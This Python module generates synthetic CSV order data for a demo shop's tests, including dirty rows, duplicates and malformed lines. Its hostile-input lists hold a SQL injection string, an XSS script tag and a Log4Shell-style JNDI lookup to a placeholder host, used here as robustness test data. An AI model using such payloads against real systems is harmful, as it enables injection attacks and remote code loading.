"""Shared plumbing of the shop's source files: records with their expected outcome, mixing dirty
rows and duplicates into clean ones, and writing CSV (including deliberately broken lines)."""

from __future__ import annotations

import csv
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from random import Random
from typing import Final

from tokops.demo.truth import Outcome

__all__ = [
    "HOSTILE_NAMES",
    "HOSTILE_NOTES",
    "Record",
    "iso_time",
    "mix",
    "outcomes",
    "write_csv",
]

Row = dict[str, str]
Record = tuple[Row | str, Outcome, str]
"""A row (or a raw, malformed CSV line), its expected outcome and the reason label."""

HOSTILE_NAMES: Final = (
    "Robert'); DROP TABLE orders;--",
    'Zoë "Zed" O\'Brien',
    "李小龍",
    "<script>alert('x')</script>",
    "Ahmed, Jr.",
)
HOSTILE_NOTES: Final = (
    "Leave at the door 🚪\nDoor code: 1234",
    "🎁 Gift wrap please — «Joyeux anniversaire» 🎉",
    "Robert'); DROP TABLE orders;--",
    'He said "call first", twice',
    "line one\r\nline two\ttabbed",
    "${jndi:ldap://example.invalid/a}",
)

_PARIS: Final = timezone(timedelta(hours=1))


def iso_time(dt: datetime, rng: Random) -> str:
    """ISO 8601 with an explicit offset: UTC (``Z``) mostly, sometimes Paris local time."""
    if rng.random() < 0.8:
        return dt.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    return dt.astimezone(_PARIS).isoformat(timespec="seconds")


def mix(
    rng: Random, clean: Sequence[Row], dirty: Sequence[Record], duplicates: int
) -> list[Record]:
    """Clean rows in their order, dirty records at random places, then *duplicates* exact copies
    of clean rows, each placed somewhere after its original."""
    records: list[Record] = [(row, "sent", "") for row in clean]
    for record in dirty:
        records.insert(rng.randrange(len(records) + 1), record)
    sources = rng.sample(range(len(clean)), min(duplicates, len(clean)))
    for index in sources:
        original = clean[index]
        at = next(i for i, r in enumerate(records) if r[0] is original)
        records.insert(rng.randrange(at + 1, len(records) + 1), (dict(original), "duplicate", ""))
    return records


def outcomes(records: Sequence[Record]) -> list[tuple[Outcome, str]]:
    return [(outcome, reason) for _, outcome, reason in records]


def write_csv(path: Path, columns: Sequence[str], records: Sequence[Record]) -> None:
    """Write a header and the records; raw strings are written verbatim as broken lines."""
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(columns)
        for row, _, _ in records:
            if isinstance(row, str):
                handle.write(row.rstrip("\n") + "\n")
            else:
                writer.writerow([row.get(c, "") for c in columns])
